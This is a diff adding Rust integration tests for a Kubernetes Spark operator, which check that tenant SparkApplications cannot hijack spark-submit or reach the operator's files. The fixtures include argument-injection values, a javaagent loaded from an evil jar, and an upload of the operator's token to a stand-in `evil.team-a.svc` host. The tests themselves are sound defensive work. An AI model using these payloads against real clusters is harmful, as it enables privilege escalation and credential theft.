@@ -1,0 +1,220 @@
+//! Nobody who may create a SparkApplication gets the operator's rights, files or process by it.
+//!
+//! Each of these ways has led there while the operator ran `spark-submit` itself: options in place of a program, classes on
+//! the class path of `spark-submit`, and files of the operator's that Spark copies or uploads.
+
+use super::{
+    applications::application,
+    kubectl::try_kubectl_with,
+    namespace::{Namespace, Ours, Reviewed},
+    operator::{Operator, stand_in},
+    submission_node::SubmissionNode,
+};
+use k8s_openapi::api::core::v1::{ConfigMap, Pod, Secret, Service};
+use serde_json::{Value, json};
+use spark_operator::api::{ScheduledSparkApplication, SparkApplication};
+use std::fs;
+
+/// `spark-submit` takes a main file that begins with `--`, and the arguments behind it, for options.
+#[tokio::test]
+#[ignore = "needs kube-apiserver: make test"]
+async fn options_of_spark_submit_in_place_of_a_program_are_refused_when_they_are_applied() {
+    let namespace = Namespace::new("tenant-options").await;
+    let _reviewed = Reviewed::begin();
+    let operator = Operator::with(&namespace).by_spark_submit().start().await;
+    for (object, field, value) in [
+        (injecting(), "spec.mainApplicationFile", "--master"),
+        (scheduled(&injecting()), "spec.template.mainApplicationFile", "--master"),
+        (mixing(), "spec.arguments[1]", "--conf"),
+        (scheduled(&mixing()), "spec.template.arguments[1]", "--conf"),
+    ] {
+        let refused =
+            try_kubectl_with(&object, &["apply", "--namespace", namespace.name, "-f", "-"]).unwrap_err();
+        assert!(refused.contains(&format!("{field}: `{value}`")), "no {field} in {refused}");
+    }
+    assert_eq!(namespace.list::<SparkApplication>().await, Vec::<Value>::new());
+    assert_eq!(namespace.list::<ScheduledSparkApplication>().await, Vec::<Value>::new());
+    assert!(!operator.has_had_a_child());
+}
+
+/// The application was stored while the webhook was not asked.
+#[tokio::test]
+#[ignore = "needs kube-apiserver: make test"]
+async fn options_of_spark_submit_in_place_of_a_program_are_refused_by_the_operator_before_it_makes_anything()
+{
+    for submitter in ["auto", "native", "spark-submit"] {
+        let namespace = Namespace::new("tenant-stored").await;
+        let node = SubmissionNode::of(&namespace, &stand_in()).start().await;
+        let operator = Operator::with(&namespace).argument(&format!("--submitter={submitter}")).start().await;
+        for (application, field) in
+            [(injecting(), "spec.mainApplicationFile: `--master`"), (mixing(), "spec.arguments[1]: `--conf`")]
+        {
+            namespace.apply(&application);
+            let failed = namespace.reaches(application["metadata"]["name"].as_str().unwrap(), "FAILED").await;
+            let why = failed["status"]["applicationState"]["errorMessage"].as_str().unwrap();
+            assert!(why.starts_with(field), "--submitter={submitter}: {why}");
+        }
+        assert_eq!(namespace.submission_pods_ever().await, Vec::<String>::new());
+        assert_eq!(namespace.drivers_ever().await, Vec::<String>::new());
+        assert_eq!(namespace.list::<ConfigMap>().await, Vec::<Value>::new());
+        assert_eq!(namespace.list::<Service>().await, Vec::<Value>::new());
+        assert!(!operator.has_had_a_child());
+        drop(node);
+    }
+}
+
+#[tokio::test]
+#[ignore = "needs kube-apiserver: make test"]
+async fn a_stored_schedule_whose_template_has_options_of_spark_submit_submits_nothing() {
+    let namespace = Namespace::new("tenant-scheduled").await;
+    let operator = Operator::with(&namespace).by_spark_submit().start().await;
+    namespace.apply(&scheduled(&injecting()));
+    let said = super::eventually("the schedule says what is wrong", async || {
+        let schedule = namespace.get::<ScheduledSparkApplication>("scheduled").await.unwrap();
+        let made = namespace.list::<SparkApplication>().await;
+        let of_made = made.first().map(|made| &made["status"]["applicationState"]["errorMessage"]);
+        let said = [Some(&schedule["status"]["reason"]), of_made].into_iter().flatten();
+        let said = said.filter_map(Value::as_str).find(|said| said.contains("ainApplicationFile"));
+        said.map(str::to_owned).ok_or_else(|| format!("{schedule:#} {made:?}"))
+    })
+    .await;
+    assert!(said.contains("mainApplicationFile: `--master`"), "{said}");
+    assert_eq!(namespace.submission_pods_ever().await, Vec::<String>::new());
+    assert_eq!(namespace.drivers_ever().await, Vec::<String>::new());
+    assert!(!operator.has_had_a_child());
+    namespace.clear::<ScheduledSparkApplication>().await;
+}
+
+/// Packages and feature steps are classes that `spark-submit` loads.
+#[tokio::test]
+#[ignore = "needs kube-apiserver: make test"]
+async fn classes_of_the_applications_run_in_its_own_pod_or_not_at_all() {
+    let namespace = Namespace::new("tenant-classes").await;
+    let mut steps = application("steps");
+    steps["metadata"]["annotations"]["sparkoperator.k8s.io/submitter"] = json!("spark-submit");
+    steps["spec"]["deps"] =
+        json!({"packages": ["team-a:evil:1"], "repositories": ["http://evil.team-a.svc/"]});
+    steps["spec"]["sparkConf"] = json!({"spark.kubernetes.driver.pod.featureSteps": "team.a.Evil"});
+    {
+        let operator = Operator::start(&namespace).await;
+        namespace.apply(&steps);
+        let pod = namespace.submission_pod(&[]).await;
+        assert_eq!(pod["spec"]["serviceAccountName"], "spark");
+        assert_eq!(pod["metadata"]["namespace"], namespace.name);
+        assert!(!operator.has_had_a_child());
+        namespace.kubectl(&["delete", "sparkapp", "steps"]);
+        namespace.has_no_pods().await;
+    }
+    let before = namespace.submission_pods_ever().await;
+    let operator = Operator::with(&namespace).argument("--submitter=native").start().await;
+    for annotated in [true, false] {
+        if !annotated {
+            steps["metadata"]["annotations"].take();
+            namespace.kubectl(&["delete", "sparkapp", "steps"]);
+        }
+        namespace.apply(&steps);
+        let failed = namespace.reaches("steps", "FAILED").await;
+        let why = failed["status"]["applicationState"]["errorMessage"].as_str().unwrap();
+        let field = if annotated {
+            "metadata.annotations[sparkoperator.k8s.io/submitter]: `spark-submit` is not allowed"
+        } else {
+            "spec.sparkConf[spark.kubernetes.driver.pod.featureSteps]: "
+        };
+        assert!(why.starts_with(field), "{why}");
+    }
+    assert_eq!(namespace.submission_pods_ever().await, before);
+    assert!(!operator.has_had_a_child());
+}
+
+/// A path that an application names is a path of the submission pod, not of the operator's.
+#[tokio::test]
+#[ignore = "needs kube-apiserver: make test"]
+async fn no_file_of_the_operators_comes_into_the_namespace_of_an_application() {
+    const SECRET: &str = "of-the-operator-alone";
+    let namespace = Namespace::new("tenant-files").await;
+    let file = namespace.folder.join("token");
+    fs::write(&file, SECRET).unwrap();
+    let path = file.to_str().unwrap();
+    let mut krb5 = application("krb5");
+    krb5["spec"]["sparkConf"] = json!({"spark.kubernetes.kerberos.krb5.path": path});
+    let mut template = application("template");
+    template["spec"]["sparkVersion"] = json!("2.4.8");
+    template["spec"]["sparkConf"] = json!({"spark.kubernetes.executor.podTemplateFile": path});
+    let mut upload = application("upload");
+    upload["spec"]["sparkConf"] = json!({
+        "spark.files": format!("file://{path}"),
+        "spark.kubernetes.file.upload.path": "webhdfs://evil.team-a.svc/x",
+    });
+    let operator = Operator::start(&namespace).await;
+    let names = ["krb5", "template", "upload"];
+    for application in [&krb5, &template, &upload] {
+        namespace.apply(application);
+    }
+    for name in names {
+        // Either it is refused or it has a submission pod.
+        super::eventually(&format!("{name} is dealt with"), async || {
+            let application = namespace.application(name).await;
+            let is_refused = application["status"]["applicationState"]["state"] == "FAILED";
+            let pods = namespace.submission_pods().await;
+            let has_pod =
+                pods.iter().any(|pod| pod["metadata"]["labels"]["sparkoperator.k8s.io/app-name"] == name);
+            super::seen(is_refused || has_pod, application)
+        })
+        .await;
+    }
+    let kubeconfig: Value =
+        serde_json::from_str(&fs::read_to_string(namespace.folder.join("operator.kubeconfig")).unwrap())
+            .unwrap();
+    let token = kubeconfig["users"][0]["user"]["token"].as_str().unwrap();
+    for text in [
+        namespace.text_of::<ConfigMap>().await,
+        namespace.text_of::<Secret>().await,
+        namespace.text_of::<Pod>().await,
+    ] {
+        assert!(!text.contains(SECRET) && !text.contains(token), "{text}");
+    }
+    assert!(!operator.log().contains(SECRET));
+    assert!(!operator.has_had_a_child());
+}
+
+impl Namespace {
+    /// All objects of a kind, as text.
+    async fn text_of<K: Ours>(&self) -> String {
+        json!(self.list::<K>().await).to_string()
+    }
+
+    async fn has_no_pods(&self) {
+        super::eventually("all pods are gone", async || {
+            let pods = self.list::<Pod>().await;
+            super::seen(pods.is_empty(), pods)
+        })
+        .await;
+    }
+}
+
+/// Options in place of the main file: the last `--master` and `--deploy-mode` would count.
+fn injecting() -> Value {
+    let mut evil = application("injecting");
+    evil["spec"]["mainApplicationFile"] = json!("--master");
+    evil["spec"]["arguments"] =
+        json!(["local[1]", "--deploy-mode", "client", "--class", "Evil", "http://evil.team-a.svc/x.jar"]);
+    evil
+}
+
+/// Options among the arguments, which Spark's launcher takes for its own where the main class is one of a few.
+fn mixing() -> Value {
+    let mut evil = application("mixing");
+    evil["spec"]["mainClass"] = json!("org.apache.spark.sql.hive.thriftserver.HiveThriftServer2");
+    evil["spec"]["arguments"] =
+        json!(["a", "--conf", "spark.driver.extraJavaOptions=-javaagent:/tmp/evil.jar"]);
+    evil
+}
+
+fn scheduled(application: &Value) -> Value {
+    json!({
+        "apiVersion": "sparkoperator.k8s.io/v1beta2",
+        "kind": "ScheduledSparkApplication",
+        "metadata": {"name": "scheduled"},
+        "spec": {"schedule": "@every 1s", "template": application["spec"]},
+    })
+}
